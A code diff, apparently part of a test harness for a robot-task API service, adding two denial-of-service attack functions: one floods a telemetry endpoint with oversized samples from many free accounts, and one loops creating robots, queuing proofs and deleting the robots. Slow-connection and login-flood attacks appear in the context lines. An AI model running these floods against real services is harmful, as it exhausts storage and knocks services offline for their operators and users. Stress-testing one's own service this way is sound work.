@@ -1,3 +1,4 @@
+import { randomUUID } from 'node:crypto';
 import { Agent, request } from 'node:http';
 import { connect } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
@@ -9,6 +10,8 @@ export interface Target {
   port: number;
   /** Keys of free accounts, one robot each. */
   apiKeys: string[];
+  /** Session cookie of another free account. */
+  session: string;
   /** A proof hash that anybody may verify. */
   proofHash: string;
 }
@@ -29,6 +32,40 @@ export const attacks: Record<string, (target: Target) => Promise<void>> = {
       void post(target, '/api/auth/verify', { address, signature });
       await sleep(25);
     }
+  },
+
+  /** Row 2: 12 accounts store 0.8 MB of samples in each request, 36 requests a second: 1.7 GB a minute. */
+  async storage(target) {
+    const metrics = { note: 'x'.repeat(16_000) };
+    for (let n = 0; ; n += 1) {
+      const sender = target.apiKeys[n % target.apiKeys.length] ?? '';
+      const samples = Array.from({ length: 50 }, () => ({ metrics }));
+      void ask(target, 'POST', '/api/v1/telemetry', bearer(sender), { samples });
+      await sleep(28);
+    }
+  },
+
+  /** Row 7: one account queues 400 proofs with 4 robots and deletes the robots, over and over. */
+  async deletions(target) {
+    const owner = { cookie: `svc_session=${target.session}` };
+    const round = async () => {
+      const made = await ask(target, 'POST', '/api/v1/robots', owner, { name: 'arm' });
+      const robot = made?.robot?.id ?? randomUUID();
+      const key = bearer(made?.api_key ?? `svc_${'0'.repeat(40)}`);
+      const ids = Array.from({ length: 100 }, () => randomUUID());
+      await Promise.all(
+        ids.map((id) => ask(target, 'POST', '/api/v1/tasks', key, { id, title: 'Sort' })),
+      );
+      for (const id of ids) {
+        void ask(target, 'POST', `/api/v1/tasks/${id}/complete`, key, { proof: { id } });
+      }
+      await sleep(500);
+      await ask(target, 'DELETE', `/api/v1/robots/${robot}`, owner);
+    };
+    const again = async () => {
+      for (;;) await round();
+    };
+    await Promise.all(Array.from({ length: 4 }, again));
   },
 
   /** Row 3: 192 slow connections of 12 accounts, each announcing 2 MiB and sending 32 KiB in 45 s. */
@@ -85,6 +122,49 @@ const post = (target: Target, path: string, body: object) =>
   call(target, { method: 'POST', path, headers: { 'content-type': 'application/json' } }, body);
 
 const get = (target: Target, path: string) => call(target, { method: 'GET', path });
+
+const bearer = (apiKey: string) => ({ authorization: `Bearer ${apiKey}` });
+
+/** After this time without an answer the attack goes on: the control never answers. */
+const ANSWER_MS = 1000;
+
+/** The answer's body; null if none came in time. Each call has a connection of its own. */
+function ask(
+  { host, port }: Target,
+  method: string,
+  path: string,
+  headers: Record<string, string>,
+  body?: object,
+  // biome-ignore lint/suspicious/noExplicitAny: an attack sends on what it finds.
+): Promise<any> {
+  return new Promise((resolve) => {
+    const options = { host, port, localAddress: SOURCE, agent: false, method, path } as const;
+    const type = body === undefined ? {} : { 'content-type': 'application/json' };
+    const sent = request({ ...options, headers: { ...headers, ...type } }, (response) => {
+      let text = '';
+      response.setEncoding('utf8');
+      response.on('data', (part: string) => {
+        if (text.length < 10_000) text += part;
+      });
+      response.once('error', () => resolve(null));
+      response.once('end', () => {
+        try {
+          resolve(JSON.parse(text));
+        } catch {
+          resolve(null);
+        }
+      });
+    });
+    const timer = setTimeout(() => {
+      resolve(null);
+      // A completion waits for its anchor.
+      if (!path.endsWith('/complete')) sent.destroy();
+    }, ANSWER_MS);
+    sent.once('close', () => clearTimeout(timer));
+    sent.once('error', () => resolve(null));
+    sent.end(body === undefined ? undefined : JSON.stringify(body));
+  });
+}
 
 /** Resolves with the end of the response, or of the connection. */
 function call({ host, port }: Target, options: object, body?: object): Promise<void> {
